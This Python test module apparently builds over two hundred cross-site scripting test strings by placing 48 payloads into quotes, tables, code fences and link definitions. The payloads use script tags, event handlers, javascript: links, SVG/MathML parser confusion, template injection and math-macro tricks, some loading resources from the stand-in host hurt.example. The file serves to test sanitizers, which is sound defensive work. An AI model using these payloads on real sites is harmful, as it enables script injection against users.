"""Over two hundred hostile texts, of our own making: each way of smuggling in a script, in each place where Markdown puts text.

A text that comes to life sets ``globalThis.hurt``, asks ``hurt.example`` for something, opens a dialog or covers the page.
"""

from __future__ import annotations

RUN = "globalThis.hurt=1"
AWAY = "https://hurt.example"

PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/a.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea></title><script>{RUN}</script>",
    f"<SCRIPT type=module>{RUN}</SCRIPT >",
    f"<img src=x onerror={RUN}>",
    f'<img src="{AWAY}/a.png" alt="x">',
    f"<img/src=`x`onerror={RUN}//",
    f'<img srcset="{AWAY}/a.png 1x, x 2x" onload="{RUN}">',
    f"<svg onload={RUN}><g/></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text>go</text></a></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><use href="{AWAY}/a.svg#x"></use></svg>',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f'<math href="javascript:{RUN}">x</math>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<object data="{AWAY}/a.html"></object>',
    f'<embed src="{AWAY}/a.swf">',
    f'<base href="{AWAY}/">',
    f'<link rel=stylesheet href="{AWAY}/a.css">',
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<style>@import url({AWAY}/a.css);</style>",
    f'<div style="position:fixed;inset:0;background:url({AWAY}/a.png)">cover</div>',
    f'<form action="{AWAY}"><button autofocus onfocus="{RUN}">go</button></form>',
    f'<video src=x onerror="{RUN}" poster="{AWAY}/a.png"></video>',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<a href="javascript:{RUN}">go</a>',
    f'<a href="java&#10;script:{RUN}" ping="{AWAY}">go</a>',
    f'<template shadowrootmode=open><img src=x onerror="{RUN}"></template>',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"[go](javascript:{RUN})",
    f"[go](&#106;avascript&colon;{RUN})",
    f"[go](data:text/html,<script>{RUN}</script>)",
    f"![picture]({AWAY}/a.png)",
    f'![picture](x"onerror="{RUN})',
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id='</textarea><img onerror={RUN} src=1>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg></p><title><a id='</title><img src=x onerror={RUN}>'></title></svg>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} {{% set x = cycler.__init__.__globals__ %}} #{{{RUN}}} <%= {RUN} %>",
    f"<a id=defaultView><a id=defaultView name=hurt href='javascript:{RUN}'><form name=body><input name=attributes>",
    f"$\\htmlData{{onclick={RUN}}}{{x}} \\htmlId{{a}}{{\\url{{javascript:{RUN}}}}} \\text{{<img src=x onerror={RUN}>}}$",
    f"$$\\def\\a{{\\a\\a}}\\a \\html@mathml{{<script>{RUN}</script>}}{{x}}$$",
    f"$\\href{{javascript:{RUN}}}{{x}} \\includegraphics{{{AWAY}/a.png}} \\htmlStyle{{background:url({AWAY})}}{{x}}$",
)
PLACES = (
    "{}",
    "> 1. **bold** {} and *on*",
    "| a | b |\n|---|---|\n| {} | `x` |",
    "```html {}\n{}\n```",
    '# {}\n\n[a]: <javascript:globalThis.hurt=1> "{}"\n\n[a] [go](https://a.example "{}")',
)
TEXTS = tuple(place.replace("{}", payload) for payload in PAYLOADS for place in PLACES)
